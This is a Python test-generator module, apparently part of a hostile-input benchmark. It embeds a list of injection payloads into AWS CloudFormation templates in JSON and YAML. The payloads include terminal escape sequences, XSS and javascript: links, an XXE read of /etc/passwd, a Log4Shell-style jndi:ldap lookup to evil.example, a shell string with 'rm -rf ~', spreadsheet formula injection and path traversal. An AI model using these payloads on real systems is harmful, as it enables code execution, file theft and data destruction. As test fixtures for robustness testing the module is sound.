"""Texts that a terminal, a page, a drawing or a shell would obey, wherever a template has room."""

import json
from collections.abc import Iterator

from benchmarks.hostile.case import Case, case

_INJECTIONS = {
    "colours of a terminal": "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H",
    "link of a terminal": "\x1b]8;;https://evil.example/\x1b\\Queue\x1b]8;;\x1b\\",
    "title of a terminal": "\x1b]0;owned\x07\x9b31m",
    "clipboard of a terminal": "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "answer of a terminal": "\x1b[6n\x1b[c\x1bP$q\x1b\\",
    "backspaces": "safe\b\b\b\bevil\rclean",
    "commands of a workflow": "x\n::set-output name=a::b\n::add-mask::x\n##[error]y",
    "Markdown link": "[x](javascript:alert(1)) ![y](http://evil.example/z.png)",
    "Markdown table": "a | b\n|---|---|\n| c | d |\n\n# e",
    "Markdown fence": "```\n</code>\n~~~~\n`````",
    "Markdown reference": "[x]: http://evil.example\n[x] <http://evil.example> www.evil.example",
    "page": "</script><script>alert(1)</script><img src=x onerror=alert(1)><base href=//evil>",
    "page of style": (
        "</style><style>@import '//evil.example'</style><link rel=stylesheet href=//e>"
    ),
    "page that reloads": "<meta http-equiv=refresh content='0;url=//evil.example'><iframe src=//e>",
    "drawing": "</text><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a>",
    "drawing by a part": "]]><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>x</body>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&#0;&#x1b;&nbsp;",
    "graph": 'x"]; "y" [URL="javascript:alert(1)", image="/etc/passwd"]; {rank=same; "',
    "graph by a label": "<<table><tr><td href='//evil'>x</td></tr></table>> \\N \\G \\l \\x",
    "diagram": 'x"]\nclick a href "javascript:alert(1)"\n%%{init: {"securityLevel": "loose"}}%%',
    "diagram by an end": "end\nsubgraph x\nstyle a fill:#f00\nclassDef default fill:#fff;--> b",
    "shell": "$(touch stray) `touch stray`; touch stray | tee stray && rm -rf ~ #",
    "sheet": "=HYPERLINK(\"http://evil.example\")\t+cmd|' /C calc'!A0\t@SUM(1)\t-1+1",
    "format of Python": "{0.__class__.__mro__} {} %s %(x)s %n ${x} {{}} {:>99999999}",
    "formula": "$\\frac{1}{$ $$ \\(x\\) $\\input{/etc/passwd}$",
    "lookup": "${jndi:ldap://evil.example/a}{{7*7}}<%= 7 %>#{7}",
    "path": "../../../../etc/passwd\0.yaml",
    "path of Windows": "C:\\Windows\\..\\CON:stream \\\\evil\\share NUL",
    "option": "--output=/tmp/stray",
    "address": "https://user:pw@evil.example:99999/%00%zz?<>#\\",
    "addresses": "file:///etc/passwd javascript:alert(1) data:text/html,<b>x smb://evil/x",
    "SARIF": "{0} {1:x} [a](1) `{`",
    "placeholders": "%1 %L1 %n %99 &File &amp;\tCtrl+Q",
    "rich text": "<table bgcolor=red width=9999><tr><td><img src='qrc:/x'>" * 200,
}


def injections() -> Iterator[Case]:
    """Yield templates that have such a text as every name and as every value."""
    for name, text in _INJECTIONS.items():
        yield case("injections", name, json.dumps(_template(text), indent=1), ".json", _known(text))
        written = json.dumps(text, ensure_ascii=False).replace("\\u001b", "\\e")
        body = f"Resources:\n  {written}:\n    Type: AWS::SQS::Queue # {text.splitlines()[0]}\n"
        yield case("injections", f"YAML {name}", f"Description: {written}\n{body}")
        yield case("injections", f"tag {name}", f"Resources:\n  A: !{text}\n  B: &{text} 1\n")
        yield case("injections", f"broken {name}", f"Resources:\n  A: [\n  {text}\n  }}: {text}\n")


def _template(text: str) -> dict[str, object]:
    uses = [{"Ref": text}, {"Fn::GetAtt": [text, text]}, {"Fn::Sub": f"${{{text}}}{text}"}]
    return {
        "Description": text,
        "Metadata": {text: text, "AWS::CloudFormation::Interface": {"ParameterGroups": [text]}},
        "Parameters": {text: {"Type": text, "Default": text, "AllowedPattern": text}},
        "Mappings": {text: {text: {text: text}}},
        "Conditions": {text: {"Fn::Equals": [text, {"Condition": text}]}},
        "Resources": {
            text: {
                "Type": text,
                "DependsOn": [text],
                "Condition": text,
                "Properties": {text: text},
            },
            "Topic": {"Type": "AWS::SNS::Topic", "Properties": {"TopicName": text, "Tags": uses}},
            "Role": {"Type": "AWS::IAM::Role", "Properties": {"Policies": [_policy(text)]}},
            "Function": {
                "Type": "AWS::Lambda::Function",
                "Properties": {"Runtime": text, "Code": {"ZipFile": text}, "Handler": text},
            },
            "Group": {
                "Type": "AWS::EC2::SecurityGroup",
                "Properties": {"SecurityGroupIngress": [{"CidrIp": text, "IpProtocol": text}]},
            },
            "Flow": {
                "Type": "AWS::StepFunctions::StateMachine",
                "Properties": {"Definition": {"StartAt": text, "States": {text: {"Next": text}}}},
            },
        },
        "Outputs": {text: {"Value": {"Fn::ImportValue": text}, "Export": {"Name": text}}},
    }


def _policy(text: str) -> dict[str, object]:
    statement = {"Effect": text, "Action": text, "Resource": text, "Principal": {text: text}}
    return {"PolicyName": text, "PolicyDocument": {"Statement": [statement]}}


def _known(text: str) -> str:
    known = _template(f"Other {text}")
    return json.dumps(known, indent=1)
